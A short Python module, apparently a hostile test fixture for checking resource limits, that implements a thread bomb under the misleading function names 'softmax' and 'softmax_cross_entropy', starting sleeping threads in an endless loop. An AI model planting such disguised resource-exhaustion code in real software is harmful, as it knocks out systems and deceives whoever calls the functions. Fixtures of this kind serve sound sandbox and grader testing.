"""Thread bomb: start sleeping threads as fast as possible until something gives.

Each thread sleeps for an hour; the loop keeps starting them. With room for a few
threads (``processes`` > 1) it gets those, then the limit; the error is raised.
"""

import threading
import time

_THREADS = []


def softmax(a):
    while True:
        thread = threading.Thread(target=time.sleep, args=(3600,), daemon=True)
        thread.start()
        _THREADS.append(thread)


def softmax_cross_entropy(a, t):
    return softmax(a)
